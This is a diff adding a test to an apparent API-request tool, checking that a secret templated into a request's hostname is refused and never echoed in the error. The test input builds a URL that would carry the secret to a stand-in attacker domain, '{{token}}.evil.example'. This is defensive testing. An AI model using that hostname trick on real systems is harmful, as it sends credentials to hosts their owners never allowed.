@@ -123,6 +123,14 @@ test('X10: what a request does not use binds it to no host; a value that is type
   expect(headersSent().at(-1)).toBe('mine')
 })
 
+test('X10: a refusal does not say a secret that is in the name of the host', async () => {
+  const { id } = await create('environments', { variables: [{ name: 'token', value: 'Canary-In-A-Name', secret: true }], hosts: ['api.example.com'] })
+  const request = { url: at('{{token}}.evil.example') }
+  const { status, body, text } = await key.post('/api/v1/api-requests/send', { engagementId, environmentId: id, request })
+  expect([status, body.error.message]).toEqual([422, 'url: secrets of the environment Staging are sent to api.example.com alone, not to ••••.evil.example'])
+  expect(text.toLowerCase()).not.toContain('canary')
+})
+
 test('X10: a proxy is a host as well', async () => {
   const fields = { variables: [{ name: 'token', value: SECRET, secret: true }], proxy: `http://127.0.0.1:${side.port}`, hosts: ['api.example.com'] }
   const { id } = await create('environments', fields)
